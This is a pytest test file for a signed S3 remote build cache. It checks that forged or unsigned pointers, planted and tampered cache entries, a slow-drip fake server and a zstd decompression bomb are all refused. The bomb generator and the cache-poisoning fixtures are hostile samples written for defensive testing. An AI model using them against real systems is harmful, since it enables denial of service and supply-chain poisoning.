    assert ("signature" in pointer_doc(s3_server, s3_bucket, "trees", "k1")) is signed
    reader = silent()
    assert cache(s3_bucket, reporter=reader).fetch("trees", "k1", empty_dir(tmp_path / "dest")) is True
    assert reader.notices == []


@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("case", ["unsigned", "signed-by-an-untrusted-key", "other-digest-same-signature",
                                  "other-size-same-signature", "signature-of-another-pointer", "garbage-signature",
                                  "unknown-signer-id"])
def test_with_trusted_keys_an_entry_not_signed_by_them_is_a_miss(s3_server: S3Server, s3_bucket: str,
                                                                 tree_entry: Path, tmp_path: Path, case: str) -> None:
    """A bucket writer without the key: whatever it writes, the reader ignores it (one warning naming the entry),
    extracts nothing and builds on."""
    key, public = new_key()
    stranger, _ = new_key("$STRANGER")
    cache(s3_bucket, write=True, key=key).push("trees", "other", tree_entry)
    honest = pointer_doc(s3_server, s3_bucket, "trees", "other")
    blob = evil_blob(tree_entry)
    content_key = plant(s3_server, s3_bucket, "trees", "k1", blob)  # unsigned, at its true digest
    doc = pointer_doc(s3_server, s3_bucket, "trees", "k1")
    if case == "signed-by-an-untrusted-key":
        cache(s3_bucket, write=True, key=stranger).push("trees", "k2", tree_entry)
        doc = {**pointer_doc(s3_server, s3_bucket, "trees", "k2"), "key": "k1"}
        doc = json.loads(Pointer.parse(json.dumps(doc).encode(), "x").signed(stranger.signer()).to_bytes())
    elif case in ("other-digest-same-signature", "other-size-same-signature"):
        # the honest pointer's signature, its key renamed and its digest (or size) swapped for the planted one
        field = "digest" if case == "other-digest-same-signature" else "size"
        doc = {**honest, "key": "k1", field: doc[field]}
    elif case == "signature-of-another-pointer":
        doc = {**doc, "signer": honest["signer"], "signature": honest["signature"]}
    elif case == "garbage-signature":
        doc = {**doc, "signer": public.id, "signature": base64.b64encode(b"\0" * 64).decode()}
    elif case == "unknown-signer-id":
        doc = {**doc, "signer": "0123456789abcdef", "signature": honest["signature"]}
    put_pointer(s3_server, s3_bucket, "trees", "k1", doc)
    reporter = silent()
    dest = empty_dir(tmp_path / "area" / "dest")
    assert cache(s3_bucket, reporter=reporter, trusted=(public,)).fetch("trees", "k1", dest) is False
    assert codes(reporter) == ["remote-cache-untrusted"], reporter.notices
    message = reporter.warnings[0].message
    assert f"{PREFIX}/v1/ac/trees/k1.json" in message and "building locally" in message
    assert sorted(os.listdir(tmp_path / "area")) == ["dest"] and not any(dest.iterdir())
    assert content_key  # the planted content stays where it is: only ever read through a trusted pointer


@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("trusted", [True, False], ids=["with-keys", "without-keys"])
def test_a_pointer_copied_under_another_key_is_a_miss(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                      tmp_path: Path, trusted: bool) -> None:
    key, public = new_key()
    cache(s3_bucket, write=True, key=key).push("trees", "k1", tree_entry)
    objects = s3_server.keys(s3_bucket)
    s3_server.client(ADMIN).put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/trees/k2.json",
                                       Body=objects[f"{PREFIX}/v1/ac/trees/k1.json"])
    reporter = silent()
    dest = empty_dir(tmp_path / "dest")
    keys = (public,) if trusted else ()
    assert cache(s3_bucket, reporter=reporter, trusted=keys).fetch("trees", "k2", dest) is False
    assert codes(reporter) == ["remote-cache-unbound"]
    assert "was written for trees/k1, not for trees/k2" in reporter.warnings[0].message
    assert not any(dest.iterdir())
    # the same pointer under its own key still works; and under another kind too it is refused
    assert cache(s3_bucket, trusted=keys).fetch("trees", "k1", empty_dir(tmp_path / "own")) is True
    s3_server.client(ADMIN).put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/wheels/k1.json",
                                       Body=objects[f"{PREFIX}/v1/ac/trees/k1.json"])
    assert cache(s3_bucket, trusted=keys).fetch("wheels", "k1", empty_dir(tmp_path / "kind")) is False


@pytest.mark.usefixtures("as_writer")
def test_a_copied_pointer_with_its_key_rewritten_fails_its_signature(s3_server: S3Server, s3_bucket: str,
                                                                     tree_entry: Path, tmp_path: Path) -> None:
    """Editing the recorded key to match the new name: accepted without trusted keys (the bucket writer decides
    what readers ship, as docs/remote-cache.md says), refused with them (the signature covers the key)."""
    key, public = new_key()
    cache(s3_bucket, write=True, key=key).push("trees", "k1", tree_entry)
    put_pointer(s3_server, s3_bucket, "trees", "k2", {**pointer_doc(s3_server, s3_bucket, "trees", "k1"), "key": "k2"})
    assert cache(s3_bucket).fetch("trees", "k2", empty_dir(tmp_path / "open")) is True
    reporter = silent()
    assert cache(s3_bucket, reporter=reporter, trusted=(public,)).fetch("trees", "k2", empty_dir(tmp_path / "d")) \
        is False
    assert codes(reporter) == ["remote-cache-untrusted"] and "does not match its fields" in reporter.warnings[0].message


@pytest.mark.usefixtures("as_writer")
def test_key_rotation_several_trusted_keys(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                           tmp_path: Path) -> None:
    """Old and new keys both trusted: entries of either are read. The old key removed: its entries are misses."""
    old, old_public = new_key()
    new, new_public = new_key()
    cache(s3_bucket, write=True, key=old, trusted=(old_public,)).push("trees", "by-old", tree_entry)
    cache(s3_bucket, write=True, key=new, trusted=(old_public, new_public)).push("trees", "by-new", tree_entry)
    both = silent()
    for name in ("by-old", "by-new"):
        assert cache(s3_bucket, reporter=both, trusted=(old_public, new_public)).fetch(
            "trees", name, empty_dir(tmp_path / f"both-{name}")) is True
    assert both.notices == []
    after = silent()
    assert cache(s3_bucket, reporter=after, trusted=(new_public,)).fetch(
        "trees", "by-new", empty_dir(tmp_path / "new")) is True
    assert cache(s3_bucket, reporter=after, trusted=(new_public,)).fetch(
        "trees", "by-old", empty_dir(tmp_path / "old")) is False
    assert codes(after) == ["remote-cache-untrusted"]
    assert f"signed by key {old_public.id}, which is not a trusted key" in after.warnings[0].message


@pytest.mark.usefixtures("as_writer")
def test_a_writer_that_finds_a_planted_pointer_says_so(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                       tmp_path: Path) -> None:
    """Create-only writes keep a planted pointer: trusted CI cannot replace it, and warns that it blocks the key."""
    key, public = new_key()
    plant(s3_server, s3_bucket, "trees", "k1", evil_blob(tree_entry))
    before = s3_server.keys(s3_bucket)
    reporter = silent()
    cache(s3_bucket, write=True, reporter=reporter, key=key, trusted=(public,)).push("trees", "k1", tree_entry)
    assert codes(reporter) == ["remote-cache-untrusted"] and "not signed" in reporter.warnings[0].message
    assert "delete" in reporter.warnings[0].message
    assert s3_server.keys(s3_bucket) == before


@pytest.mark.usefixtures("as_writer")
def test_a_pointer_of_an_earlier_version_is_unbound(s3_server: S3Server, s3_bucket: str, tmp_path: Path) -> None:
    """Schema /1 pointers (before pointers recorded their key) are misses with a warning, never trusted."""
    digest = hashlib.sha256(b"x").hexdigest()
    put_pointer(s3_server, s3_bucket, "wheels", "k1", {"schema": "cdk-native-python/remote-pointer/1", "size": 1,
                                                       "digest": f"sha256:{digest}", "format": "tar+zstd"})
    reporter = silent()
    assert cache(s3_bucket, reporter=reporter).fetch("wheels", "k1", empty_dir(tmp_path / "d")) is False
    assert codes(reporter) == ["remote-cache-unbound"] and "earlier cdk-native-python" in reporter.warnings[0].message


def test_a_writer_without_a_key_while_keys_are_required_is_an_error(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    _, public = new_key()
    for name in (signing.SIGNING_KEY_ENV, signing.SIGNING_KEY_FILE_ENV, REMOTE_URL_ENV, REMOTE_WRITE_ENV):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv(TRUSTED_KEYS_ENV, public.line)
    with pytest.raises(ConfigurationError) as err:
        open_store(tmp_path / "cache", remote_url="s3://bucket/team", remote_write=True)
    assert err.value.code == "remote-signing-key-missing"
    assert signing.SIGNING_KEY_ENV in (err.value.hint or "") and "\n" not in err.value.message
    # a reader needs no key; a writer whose key is not among the trusted ones is told before it uploads
    assert open_store(tmp_path / "cache", remote_url="s3://bucket/team").remote is not None
    stranger, _ = new_key()
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, base64.b64encode(stranger.data).decode())
    store = open_store(tmp_path / "cache", remote_url="s3://bucket/team", remote_write=True)
    assert store.remote is not None
    with pytest.raises(ConfigurationError) as untrusted:
        store.remote.push("trees", "k", tmp_path)
    assert untrusted.value.code == "remote-signing-key-untrusted" and signing.SIGNING_KEY_ENV in untrusted.value.message


# -- limits ------------------------------------------------------------------------------------------------------

class _Trickler:
    """A server that pretends to be S3 for GetObject: it answers the pointer (or the content) with its headers
    and then one byte at a time, every ``interval`` seconds, so a per-read timeout never fires."""

    def __init__(self, pointer: bytes, content: bytes, slow: str, interval: float = 0.25) -> None:
        import http.server

        self.stop = threading.Event()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                body = pointer if self.path.endswith(".json") else content
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Content-Type", "application/octet-stream")
                self.end_headers()
                trickle = (slow == "pointer") == self.path.endswith(".json")
                try:
                    if not trickle:
                        self.wfile.write(body)
                        return
                    for i in range(len(body)):
                        self.wfile.write(body[i:i + 1])
                        self.wfile.flush()
                        if outer.stop.wait(interval):
                            return
                except OSError:
                    return  # the client hung up: as it should at its deadline

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.stop.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.parametrize("slow", ["content", "pointer"])
def test_a_trickling_server_is_cut_off_at_the_deadline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       use_aws: Callable[[dict[str, str]], None],
                                                       tree_entry: Path, slow: str) -> None:
    """One byte every 0.25 s never trips a per-read timeout; the 1 s deadline of the whole fetch ends it."""
    content = io.BytesIO()
    archive.pack(tree_entry, content)
    blob = content.getvalue()[:40] if slow == "content" else content.getvalue()
    digest = hashlib.sha256(blob).hexdigest()
    pointer = Pointer("trees", "k", digest, len(blob), archive.ZSTD).to_bytes()
    server = _Trickler(pointer, blob, slow)
    try:
        use_aws(client_env(f"http://user:pw-in-the-endpoint@{server.url.removeprefix('http://')}", READER))
        fresh = remote._ProcessState()  # as a fresh process starts
        monkeypatch.setenv(TIMEOUT_ENV, "1")
        monkeypatch.setenv(REMOTE_URL_ENV, "s3://some-bucket/team/cache")
        config = RemoteConfig.from_env()
        assert config is not None and config.timeout == 1.0
        remote._default_client(fresh)  # made beforehand: only the fetch is timed
        reporter = silent()
        dest = empty_dir(tmp_path / "area" / "dest")
        start = time.perf_counter()
        assert RemoteCache(config, reporter, state=fresh).fetch("trees", "k", dest) is False
        elapsed = time.perf_counter() - start
        assert elapsed < 2.5, f"the deadline of 1 s held the fetch {elapsed:.2f} s"
        assert codes(reporter) == ["remote-cache-timeout"], reporter.notices
        message = reporter.warnings[0].message
        assert "took longer than 1 s" in message and TIMEOUT_ENV in message and "building locally" in message
        assert "pw-in-the-endpoint" not in message
        assert sorted(os.listdir(tmp_path / "area")) == ["dest"] and not any(dest.iterdir())
        # the remote is not tried again in this process: each entry would cost the deadline again
        start = time.perf_counter()
        assert RemoteCache(config, reporter, state=fresh).fetch("trees", "k", empty_dir(tmp_path / "again")) is False
        assert time.perf_counter() - start < 0.05
    finally:
        server.close()


def test_a_bad_timeout_is_an_error_naming_the_variable() -> None:
    for bad in ("soon", "0", "-5"):
        with pytest.raises(ConfigurationError) as err:
            RemoteConfig.from_env({REMOTE_URL_ENV: "s3://bucket", TIMEOUT_ENV: bad})
        assert err.value.code == "remote-cache-timeout-value" and TIMEOUT_ENV in err.value.message
    config = RemoteConfig.from_env({REMOTE_URL_ENV: "s3://bucket"})
    assert config is not None and config.timeout == remote.DEFAULT_TIMEOUT == 120


def zstd_bomb(members: list[tuple[tarfile.TarInfo, int]]) -> bytes:
    """A tar+zstd stream of ``members``, each followed by that many zero bytes, compressed as it is made."""
    import zstandard

    out = io.BytesIO()
    with zstandard.ZstdCompressor(level=3).stream_writer(out, closefd=False) as zw:
        for info, size in members:
            zw.write(info.tobuf(tarfile.PAX_FORMAT))
            zero = b"\0" * (1 << 20)
            left = size + (-size % 512)
            while left:
                zw.write(zero[:min(left, len(zero))])
                left -= min(left, len(zero))
        zw.write(b"\0" * 1024)
    return out.getvalue()


@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("case", ["one-huge-file", "huge-pax-header"])
def test_a_zstd_bomb_is_refused_while_it_streams(s3_server: S3Server, s3_bucket: str, tmp_path: Path,
                                                 case: str) -> None:
    """A small object that unpacks to more than a Lambda can hold: refused at the cap, nothing written."""
    size = archive.MAX_UNPACKED_BYTES + (16 << 20)
    if case == "one-huge-file":
        info = tarfile.TarInfo("tree/zeros.bin")
        info.size = size
    else:  # a PAX header tarfile would read into memory whole
        info = tarfile.TarInfo("././@PaxHeader")
        info.type, info.size = tarfile.XHDTYPE, size
    blob = zstd_bomb([(info, size)])
    assert len(blob) < 100_000
    plant(s3_server, s3_bucket, "trees", "bomb", blob)
    reporter = silent()
    dest = empty_dir(tmp_path / "area" / "dest")
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "bomb", dest) is False
    assert codes(reporter) == ["remote-cache-corrupt"]
    assert f"unpacks to more than {archive.MAX_MEMBERS} entries or 288,358,400 bytes" in reporter.warnings[0].message
    assert sorted(os.listdir(tmp_path / "area")) == ["dest"] and not any(dest.iterdir())


def test_the_unpacked_cap_is_lambdas_limit_plus_ten_percent() -> None:
    assert archive.MAX_UNPACKED_BYTES == 288_358_400 == 262_144_000 * 11 // 10


@pytest.mark.parametrize("endpoint", ["http://ci-user:endpoint-pw-123@127.0.0.1:{port}",
                                      "http://ci-user:endpoint-pw-123@bad_host:{port}x"], ids=["down", "malformed"])
def test_endpoint_credentials_never_reach_a_warning(tmp_path: Path, use_aws: Callable[[dict[str, str]], None],
                                                    endpoint: str) -> None:
    """``http://user:password@host`` in AWS_ENDPOINT_URL_S3: no warning holds it, whatever fails (botocore's own
    message of a malformed endpoint quotes it whole)."""
    use_aws(client_env(endpoint.format(port=closed_port()), READER))
    reporter = silent()
    assert cache("some-bucket", reporter=reporter, state=remote._ProcessState()).fetch(
        "trees", "k", empty_dir(tmp_path / "d")) is False
    (warning,) = reporter.warnings
    assert "s3://some-bucket" in warning.message
    assert "endpoint-pw-123" not in warning.message and "ci-user" not in warning.message, warning.message


def test_endpoint_credentials_never_reach_the_terminal_or_the_report(tmp_path: Path, wheel_index: WheelIndex,
                                                                    s3_server: S3Server) -> None:
    bad = "http://ci-user:endpoint-pw-123@bad_host:x"
    src = project(tmp_path, "purepkg\n")
    env = env_for(s3_server, READER, tmp_path / "cache", AWS_ENDPOINT_URL=bad, AWS_ENDPOINT_URL_S3=bad)
    done = build(src, tmp_path / "a.zip", wheel_index.url, env, "--remote-cache", "s3://nobody-home/x")
    assert done.returncode == 0, done.stderr
    assert "remote cache s3://nobody-home/x" in done.stderr
    assert "endpoint-pw-123" not in done.stderr and "ci-user" not in done.stderr
    text = Path(f"{tmp_path / 'a.zip'}.json").read_text()
    assert "nobody-home" in text, "the warning is in the report"
    assert "endpoint-pw-123" not in text and "ci-user" not in text


def env_for(server: S3Server, credentials: tuple[str, str], cache: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "CDK_NATIVE_PYTHON_"))}
    return {**env, **server.env(credentials), "CDK_NATIVE_PYTHON_CACHE_DIR": str(cache), **extra}


def project(root: Path, requirements: str = "purepkg\nnativepkg\nboto3\n") -> Path:
    return write_function(root, requirements, name="src",
                          files={"index.py": "import purepkg\n\ndef handler(event, context):\n    return 'ok'\n"})


def build(src: Path, out: Path, index_url: str, env: dict[str, str], *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "cdk_native_python.cli", "build", "--runtime", "python3.12", "--arch", "arm64",
         "--source", str(src), "--index-url", index_url, "--zip", str(out), "--report", f"{out}.json", *extra],
        capture_output=True, text=True, env=env, timeout=300, check=False)


def report(zip_path: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(Path(f"{zip_path}.json").read_text())
    return data


def objects(server: S3Server, bucket: str) -> dict[str, bytes]:
    return server.keys(bucket)


def own_index(tmp_path: Path, shared: WheelIndex) -> WheelIndex:
    """A copy of the hermetic index this test may take down."""
    folder = tmp_path / "index"
    folder.mkdir()
    for f in Path(shared.root).iterdir():
        shutil.copy(f, folder)
    return WheelIndex(folder)


def test_a_fresh_machine_builds_offline_from_a_warm_remote(tmp_path: Path, wheel_index: WheelIndex,
                                                           s3_server: S3Server, s3_bucket: str) -> None:
    src = project(tmp_path)
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    index = own_index(tmp_path, wheel_index)
    a = build(src, tmp_path / "a.zip", index.url, env_for(s3_server, WRITER, tmp_path / "cache-a"),
              "--remote-cache", url, "--remote-cache-write")
    index.close()  # from now on the index is unreachable: the same URL, nothing listening
    assert a.returncode == 0, a.stderr
    shared = objects(s3_server, s3_bucket)
    kinds = sorted({k.split("/")[3] for k in shared if "/ac/" in k})
    assert kinds == ["resolutions", "trees"] and any("/cas/sha256/" in k for k in shared)
    # machine B: empty cache, the index unreachable, the remote given by the environment, read-only
    b_env = env_for(s3_server, READER, tmp_path / "cache-b", CDK_NATIVE_PYTHON_REMOTE_CACHE=url)
    b = build(src, tmp_path / "b.zip", index.url, b_env)
    assert b.returncode == 0, b.stderr
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
    assert report(tmp_path / "a.zip")["asset_hash"] == report(tmp_path / "b.zip")["asset_hash"]
    assert report(tmp_path / "b.zip")["cache"] == {"resolve": "hit", "install": "hit"}
    assert "warning" not in b.stderr
    assert objects(s3_server, s3_bucket) == shared  # a reader wrote nothing
    for secret in (WRITER[1], READER[1]):  # credentials never reach output, keys, reports or assets
        assert secret not in a.stderr + b.stderr
        assert all(secret.encode() not in k.encode() + v for k, v in shared.items())
        with zipfile.ZipFile(tmp_path / "b.zip") as zf:
            assert all(secret.encode() not in zf.read(n) for n in zf.namelist())
        assert secret not in Path(f"{tmp_path / 'b.zip'}.json").read_text()


def test_a_read_only_client_writes_nothing_even_when_it_builds(tmp_path: Path, wheel_index: WheelIndex,
                                                               s3_server: S3Server, s3_bucket: str) -> None:
    src = project(tmp_path)
    env = env_for(s3_server, WRITER, tmp_path / "cache", CDK_NATIVE_PYTHON_REMOTE_CACHE=f"s3://{s3_bucket}/{E2E_PREFIX}")
    done = build(src, tmp_path / "a.zip", wheel_index.url, env)
    assert done.returncode == 0, done.stderr
    assert report(tmp_path / "a.zip")["cache"] == {"resolve": "miss", "install": "miss"}
    assert objects(s3_server, s3_bucket) == {}


def test_with_the_server_down_the_build_succeeds_with_one_warning(tmp_path: Path, wheel_index: WheelIndex,
                                                                  s3_server: S3Server) -> None:
    src = project(tmp_path)
    down = f"http://127.0.0.1:{closed_port()}"
    env = env_for(s3_server, WRITER, tmp_path / "cache", AWS_ENDPOINT_URL=down, AWS_ENDPOINT_URL_S3=down)
    done = build(src, tmp_path / "a.zip", wheel_index.url, env, "--remote-cache", "s3://nobody-home/x",
                 "--remote-cache-write")
    assert done.returncode == 0, done.stderr
    warnings = [line for line in done.stderr.splitlines() if "warning:" in line]
    assert len(warnings) == 1 and "s3://nobody-home/x" in warnings[0] and "cannot connect" in warnings[0], warnings
    assert "building locally" in warnings[0]
    clean = build(src, tmp_path / "b.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "clean"))
    assert clean.returncode == 0
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()


def test_a_tampered_remote_tree_is_never_shipped(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server,
                                                 s3_bucket: str) -> None:
    src = project(tmp_path)
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    assert build(src, tmp_path / "a.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-a"),
                 "--remote-cache", url, "--remote-cache-write").returncode == 0
    admin = s3_server.client()
    blobs = [k for k in objects(s3_server, s3_bucket) if "/cas/" in k]
    for key in blobs:  # flip a byte in every stored archive
        body = bytearray(admin.get_object(Bucket=s3_bucket, Key=key)["Body"].read())
        body[len(body) // 2] ^= 0xFF
        admin.put_object(Bucket=s3_bucket, Key=key, Body=bytes(body))
    b = build(src, tmp_path / "b.zip", wheel_index.url,
              env_for(s3_server, READER, tmp_path / "cache-b", CDK_NATIVE_PYTHON_REMOTE_CACHE=url))
    assert b.returncode == 0, b.stderr
    assert "remote" in b.stderr and "warning" in b.stderr
    assert report(tmp_path / "b.zip")["cache"] == {"resolve": "miss", "install": "miss"}  # built locally
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()


def good_entry(tmp_path: Path, server: S3Server, index: WheelIndex, requirements: str,
               kind: str) -> tuple[Path, Path, Path]:
    """(the function's source, the ``kind`` entry a clean build of it made, a writable copy of that entry without
    its manifest for an attacker to edit)."""
    src = project(tmp_path, requirements)
    done = build(src, tmp_path / "good.zip", index.url, env_for(server, WRITER, tmp_path / "cache-good"))
    assert done.returncode == 0, done.stderr
    (good,) = (tmp_path / "cache-good" / kind).iterdir()
    evil = tmp_path / "evil-entry"
    shutil.copytree(good, evil, ignore=shutil.ignore_patterns("manifest.json"))
    for p in evil.rglob("*"):
        p.chmod(0o755 if p.is_dir() else 0o644)
    return src, good, evil


def push_as_writer(monkeypatch: pytest.MonkeyPatch, server: S3Server, url: str, kind: str, key: str,
                   folder: Path) -> None:
    """Share ``folder`` under ``kind/key`` as anyone with the writer's credentials can."""
    for name, value in server.env(WRITER).items():
        monkeypatch.setenv(name, value)
    RemoteCache(RemoteConfig(url, write=True)).push(kind, key, folder)


def test_a_remote_tree_failing_verification_is_rejected(tmp_path: Path, wheel_index: WheelIndex,
                                                        s3_server: S3Server, s3_bucket: str,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """A compromised writer shares, under the key of a good arm64 tree, a tree holding an x86_64 binary: the
    digest is right, the content is not. The reader verifies the tree before using it, and builds its own."""
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    src, good, evil = good_entry(tmp_path, s3_server, wheel_index, "nativepkg\n", "trees")
    (evil / "tree" / "nativepkg" / "_native.abi3.so").write_bytes(make_elf("x86_64"))
    push_as_writer(monkeypatch, s3_server, url, "trees", good.name, evil)
    b = build(src, tmp_path / "b.zip", wheel_index.url, env_for(s3_server, READER, tmp_path / "cache-b"),
              "--remote-cache", url)
    assert b.returncode == 0, b.stderr
    (warning,) = [line for line in b.stderr.splitlines() if "warning:" in line]
    assert f"remote cache entry trees/{good.name[:16]}" in warning and "rejected" in warning and "x86_64" in warning
    assert report(tmp_path / "b.zip")["cache"]["install"] == "miss"
    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
        assert zf.read("nativepkg/_native.abi3.so")[18] == 183  # aarch64: the reader's own install


def test_two_writers_race_on_the_same_key(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server,
                                          s3_bucket: str) -> None:
    src = project(tmp_path)
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    procs = [subprocess.Popen(
        [sys.executable, "-m", "cdk_native_python.cli", "build", "--runtime", "python3.12", "--arch", "arm64",
         "--source", str(src), "--index-url", wheel_index.url, "--zip", str(tmp_path / f"{i}.zip"),
         "--remote-cache", url, "--remote-cache-write"],
        env=env_for(s3_server, WRITER, tmp_path / f"cache-{i}"), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True) for i in range(2)]
    for proc in procs:
        _, err = proc.communicate(timeout=300)
        assert proc.returncode == 0, err
        assert "warning" not in err
    pointers = [k for k in objects(s3_server, s3_bucket) if "/ac/" in k]
    assert len(pointers) == 2  # one resolution and one tree, whoever won
    assert hashlib.sha256((tmp_path / "0.zip").read_bytes()).digest() == \
        hashlib.sha256((tmp_path / "1.zip").read_bytes()).digest()


@pytest.mark.synth
@needs_cdk
def test_cdk_synth_on_a_fresh_machine_uses_the_remote(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server,
                                                      s3_bucket: str) -> None:
    app = tmp_path / "app"
    write_function(app, "purepkg\nnativepkg\n")
    (app / "app.py").write_text(
        "import aws_cdk as cdk\nfrom aws_cdk import aws_lambda as lambda_\n"
        "from cdk_native_python import BundlingOptions, NativePythonFunction\n"
        "import os\napp = cdk.App()\nstack = cdk.Stack(app, 'S')\n"
        "NativePythonFunction(stack, 'Fn', entry='fn', runtime=lambda_.Runtime.PYTHON_3_12,\n"
        "    architecture=lambda_.Architecture.ARM_64,\n"
        "    bundling=BundlingOptions(index_url=os.environ['INDEX']))\napp.synth()\n")
    key, public = new_key()
    # the team's trust travels with the repository: the public key in cdk.json's context
    (app / "cdk.json").write_text(json.dumps({"app": f"{sys.executable} app.py", "context": {
        "cdk-native-python": {"remoteCacheTrustedKeys": [public.line]}}}))
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"

    def synth(cache: Path, index: str, **extra: str) -> subprocess.CompletedProcess[str]:
        env = env_for(s3_server, WRITER, cache, INDEX=index, CDK_NATIVE_PYTHON_REMOTE_CACHE=url,
                      CDK_DISABLE_CLI_TELEMETRY="1", JSII_SILENCE_WARNING_DEPRECATED_NODE_VERSION="1", **extra)
        return subprocess.run([str(CDK), "synth", "--quiet", "--no-notices", "-o", str(cache.parent / "out")],
                              cwd=app, env=env, capture_output=True, text=True, timeout=600, check=False)

    index = own_index(tmp_path, wheel_index)
    unsigned = synth(tmp_path / "unsigned" / "cache", index.url, CDK_NATIVE_PYTHON_REMOTE_CACHE_WRITE="1")
    assert unsigned.returncode != 0 and "Traceback" not in unsigned.stderr, unsigned.stderr[-3000:]
    assert "no signing key is set" in unsigned.stderr and objects(s3_server, s3_bucket) == {}
    ci = synth(tmp_path / "ci" / "cache", index.url, CDK_NATIVE_PYTHON_REMOTE_CACHE_WRITE="1",
               CDK_NATIVE_PYTHON_REMOTE_CACHE_SIGNING_KEY=base64.b64encode(key.data).decode())
    index.close()
    assert ci.returncode == 0, ci.stderr[-3000:]
    assert all(json.loads(v)["signer"] == public.id for k, v in objects(s3_server, s3_bucket).items() if "/ac/" in k)
    laptop = synth(tmp_path / "laptop" / "cache", index.url)
    assert laptop.returncode == 0, laptop.stderr[-3000:]
    assert "resolve cached, install cached" in laptop.stderr
    assets = [sorted(p.name for p in (tmp_path / m / "out").glob("asset.*")) for m in ("ci", "laptop")]
    assert assets[0] == assets[1] and assets[0]


# -- signing, end to end -------------------------------------------------------------------------------------------

def test_signed_ci_and_a_trusting_fresh_machine(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server,
                                                s3_bucket: str) -> None:
    """CI signs with a key file made by `cache keygen`; a laptop trusting that key (environment variable)
    builds from the remote. A writer given the trusted key but not the private key stops before building."""
    src = project(tmp_path)
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    key_file = tmp_path / "ci-key.pem"
    made = subprocess.run([sys.executable, "-m", "cdk_native_python.cli", "cache", "keygen", str(key_file)],
                          capture_output=True, text=True, check=True)
    line = re.search(r'"(ed25519:[A-Za-z0-9+/=]+)"', made.stdout).group(1)  # type: ignore[union-attr]
    no_key = build(src, tmp_path / "nokey.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-0"),
                   "--remote-cache", url, "--remote-cache-write", "--remote-cache-trusted-key", line)
    assert no_key.returncode == 2
    assert no_key.stderr.count("error:") == 1 and "no signing key is set" in no_key.stderr, no_key.stderr
    assert "Traceback" not in no_key.stderr and not (tmp_path / "nokey.zip").exists()
    assert objects(s3_server, s3_bucket) == {}, "nothing uploaded"
    index = own_index(tmp_path, wheel_index)
    a = build(src, tmp_path / "a.zip", index.url,
              env_for(s3_server, WRITER, tmp_path / "cache-a", CDK_NATIVE_PYTHON_REMOTE_CACHE_SIGNING_KEY_FILE=str(
                  key_file)), "--remote-cache", url, "--remote-cache-write", "--remote-cache-trusted-key", line)
    index.close()
    assert a.returncode == 0, a.stderr
    pointers = [json.loads(v) for k, v in objects(s3_server, s3_bucket).items() if "/ac/" in k]
    assert len(pointers) == 2 and all(p["signer"] == PublicKey.parse(line, "t").id for p in pointers)
    assert all("; uv " in p["tool"] for p in pointers), "the pointer records our version and uv's"
    b = build(src, tmp_path / "b.zip", index.url, env_for(s3_server, READER, tmp_path / "cache-b",
                                                         CDK_NATIVE_PYTHON_REMOTE_CACHE=url,
                                                         **{TRUSTED_KEYS_ENV: line}))
    assert b.returncode == 0, b.stderr
    assert "warning" not in b.stderr
    assert report(tmp_path / "b.zip")["cache"] == {"resolve": "hit", "install": "hit"}
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
    assert key_file.read_text() not in a.stderr + b.stderr


@pytest.mark.parametrize("trusted", [True, False], ids=["with-keys", "without-keys"])
def test_a_future_key_plant(tmp_path: Path, wheel_index: WheelIndex, s3_server: S3Server, s3_bucket: str,
                            monkeypatch: pytest.MonkeyPatch, trusted: bool) -> None:
    """A bucket writer plants a tree under a key nobody built yet (it can compute it: the same lock, the same
    tool versions). With trusted keys the reader ignores it and ships the honest bundle; without, it ships the
    planted tree: the trust model of docs/remote-cache.md, where a bucket writer decides what readers ship."""
    src = project(tmp_path, "purepkg\n")
    url = f"s3://{s3_bucket}/{E2E_PREFIX}"
    honest = build(src, tmp_path / "honest.zip", wheel_index.url, env_for(s3_server, WRITER, tmp_path / "cache-h"))
